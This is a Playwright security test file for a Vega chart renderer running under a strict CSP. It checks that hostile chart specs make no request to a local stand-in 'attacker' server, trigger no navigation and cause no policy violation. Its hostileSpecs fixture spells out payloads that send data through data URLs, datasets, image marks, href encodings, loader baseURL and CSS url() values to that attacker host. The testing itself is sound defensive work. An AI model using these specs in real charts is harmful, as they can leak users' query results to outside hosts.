/**
 * `renderSqlChart` with the real vega-embed in Chromium, under the demo's CSP (`default-src
 * 'self'; script-src 'self'; style-src 'self'`) with Trusted Types required: a valid spec draws
 * SVG marks; hostile specs (data by URL, named datasets by URL, image marks, `href` encodings,
 * `usermeta` and `config` that load things), a spec Vega rejects and a vegaSpec that is not
 * JSON make no request — none to the 127.0.0.1 "attacker" server started here, which must see
 * zero hits — no navigation, no `securitypolicyviolation`, no page error, and the undrawable
 * ones show their notice; `destroy()` leaves the container empty. The same hostile specs drawn
 * without `sqlChartSpec` show that the loader alone refuses them.
 *
 * The page's app (e2e/pages/chart/app.ts) is bundled with vega-embed here, before the tests,
 * with Vite into e2e/.build/chart/ (git-ignored), which the host serves at /e2e/build/chart/
 * (e2e/support/page-app.ts).
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { sqlToolCall } from '../src/testing/servers/chat-answer.js';
import type { ChartApp } from './pages/chart/app.js';
import { buildPageApp, openPageApp } from './support/page-app.js';
import { servers } from './support/servers.js';
import { expect, test } from './support/test.js';

let attacker: Server;
let attackerHits: string[] = [];
let ATTACKER = '';

test.beforeAll(async () => {
  test.setTimeout(180_000);
  attacker = createServer((request, response) => {
    attackerHits.push(request.url ?? '');
    response.end('x');
  });
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  ATTACKER = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
  await buildPageApp('chart', { build: { chunkSizeWarningLimit: 8_000, reportCompressedSize: false } });
});

test.afterAll(async () => {
  await new Promise((resolve) => attacker.close(resolve));
});

/** What left the page: every request but the page's own two files. */
let requests: string[] = [];
let pageUrl = '';

test.beforeEach(async ({ page }) => {
  attackerHits = [];
  requests = [];
  page.on('request', (request) => requests.push(request.url()));
  pageUrl = `${servers().hostOrigin}/e2e/chart/index.html`;
  await openPageApp(page, 'chart', 'chartApp');
  requests = [];
});

const COLUMNS = [
  { name: 'city', column_type: 'String' },
  { name: 'orders', column_type: 'Int64' },
];
const ROWS = [
  ['Paris', 3],
  ['Lyon', 5],
];
const BAR = {
  $schema: 'https://vega.github.io/schema/vega-lite/v5.json',
  mark: 'bar',
  encoding: { x: { field: 'city', type: 'nominal' }, y: { field: 'orders', type: 'quantitative' } },
};

/** The SQL result of a scripted tool call with this chart (see `sqlToolCall`). */
const resultWith = (chart: Record<string, unknown> | string) =>
  sqlToolCall({ columns: COLUMNS, rows: ROWS, chart }).result as Parameters<ChartApp['render']>[1];

/**
 * The hostile specs: each names the attacker's URL in a way Vega would load or follow, and, with
 * `css` (the default), in CSS `url(…)` values that the browser itself would load from the SVG.
 */
function hostileSpecs(css = true): Record<string, Record<string, unknown>> {
  const cssUrls = css ? { background: `url(${ATTACKER}/bg)`, view: { fill: `url(${ATTACKER}/fill)` } } : {};
  return {
    'data.url': {
      ...BAR,
      data: { url: `${ATTACKER}/data.csv` },
      layer: [{ mark: 'bar', data: { url: `${ATTACKER}/layer.json` } }],
    },
    'datasets by URL': {
      ...BAR,
      datasets: { stolen: `${ATTACKER}/set.json` },
      transform: [{ lookup: 'city', from: { data: { url: `${ATTACKER}/lookup.json` }, key: 'city' } }],
    },
    'image marks': { layer: [BAR, { mark: 'image', encoding: { url: { value: `${ATTACKER}/pixel.png?rows` } } }] },
    'href encodings': {
      ...BAR,
      mark: { type: 'bar', href: `${ATTACKER}/mark` },
      encoding: { ...BAR.encoding, href: { value: `${ATTACKER}/go` } },
    },
    'usermeta and config': {
      ...BAR,
      usermeta: {
        embedOptions: {
          loader: { baseURL: ATTACKER },
          actions: true,
          ast: false,
          defaultStyle: `body{background:url(${ATTACKER}/style)}`,
        },
      },
      config: {
        ...cssUrls,
        mark: { href: `${ATTACKER}/config`, ...(css ? { cursor: `url(${ATTACKER}/cursor), auto` } : {}) },
      },
    },
  };
}

/** Asserts nothing left the page for the attacker, nothing navigated, and no violation was reported. */
async function expectNothingLeft(page: Page): Promise<void> {
  expect(requests.filter((url) => url.includes(ATTACKER) || !url.startsWith(servers().hostOrigin))).toEqual([]);
  expect(attackerHits).toEqual([]);
  expect(page.url()).toBe(pageUrl);
  expect(await page.evaluate(() => window.chartApp.violations)).toEqual([]);
}

/** Clicks every mark of a chart: an `href` would navigate on click. */
async function clickMarks(page: Page, id: string): Promise<void> {
  const marks = page.locator(`#${id} .pe-chat-chart-view svg path`);
  for (const mark of await marks.all()) await mark.click({ force: true }).catch(() => undefined);
}

test('a valid spec draws SVG marks, with no violation, and destroy() empties the container', async ({ page }) => {
  await page.evaluate((result) => window.chartApp.render('valid', result), resultWith(BAR));
  await expect(page.locator('#valid .pe-chat-chart-view svg .mark-rect path')).toHaveCount(2);
  await expect(page.locator('#valid .pe-chat-notice')).toHaveCount(0);
  await expect(page.locator('style')).toHaveCount(0);
  await expectNothingLeft(page);
  expect(await page.evaluate(() => window.chartApp.destroy('valid'))).toBe('0:');
});

test('hostile specs through sqlChartSpec: no request, no navigation, no violation, and destroy() empties the container', async ({
  page,
}) => {
  for (const [name, spec] of Object.entries(hostileSpecs())) {
    const id = `chart-${name.replace(/\W+/g, '-')}`;
    await page.evaluate(([id, result]) => window.chartApp.render(id, result), [id, resultWith(spec)] as const);
    await expect(page.locator(`#${id} .pe-chat-chart-view svg`), name).toHaveCount(1);
    await clickMarks(page, id);
  }
  // Give a late image or data request time to leave, were there one.
  await page.waitForTimeout(300);
  await expectNothingLeft(page);
  await expect(page.locator('.vega-actions, details, style, a[href]')).toHaveCount(0);
  for (const name of Object.keys(hostileSpecs()))
    expect(await page.evaluate((id) => window.chartApp.destroy(id), `chart-${name.replace(/\W+/g, '-')}`)).toBe('0:');
});

// CSS `url(…)` values are left out: the browser loads those from the SVG, not Vega's loader, so
// sqlChartSpec is their one wall (the test above).
test('the same hostile specs drawn as they are (no sqlChartSpec): the loader alone refuses every URL Vega would load', async ({
  page,
}) => {
  for (const [name, spec] of Object.entries(hostileSpecs(false))) {
    const id = `raw-${name.replace(/\W+/g, '-')}`;
    await page.evaluate(([id, spec]) => window.chartApp.drawRaw(id, spec), [id, spec] as const);
    await clickMarks(page, id);
  }
  await page.waitForTimeout(300);
  expect(requests.filter((url) => url.includes(ATTACKER))).toEqual([]);
  expect(attackerHits).toEqual([]);
  expect(page.url()).toBe(pageUrl);
  expect(await page.evaluate(() => window.chartApp.violations)).toEqual([]);
  await expect(page.locator('#raw-data-url .pe-chat-notice')).toHaveText(
    'The chart cannot be drawn: part of it failed: platform-embed charts load no URL: the chart is drawn from the result rows only (loader.load refused)',
  );
  for (const name of Object.keys(hostileSpecs()))
    expect(await page.evaluate((id) => window.chartApp.destroy(id), `raw-${name.replace(/\W+/g, '-')}`)).toBe('0:');
});

test('a spec Vega rejects and a vegaSpec that is not JSON: a notice saying why, no page error, nothing loaded', async ({
  page,
}) => {
  await page.evaluate(
    (result) => window.chartApp.render('rejected', result),
    resultWith({ mark: 'no-such-mark', encoding: { x: { field: 'city' } } }),
  );
  await page.evaluate((result) => window.chartApp.render('not-json', result), resultWith('{mark: "bar"'));
  await expect(page.locator('#rejected .pe-chat-notice')).toHaveText(/^The chart cannot be drawn: \S/);
  await expect(page.locator('#rejected .pe-chat-chart-view')).toHaveCount(0);
  await expect(page.locator('#not-json .pe-chat-notice')).toHaveText(
    'The chart cannot be drawn: its spec (vegaSpec) is not JSON',
  );
  await expectNothingLeft(page);
  expect(await page.evaluate(() => window.chartApp.destroy('rejected'))).toBe('0:');
  expect(await page.evaluate(() => window.chartApp.destroy('not-json'))).toBe('0:');
});
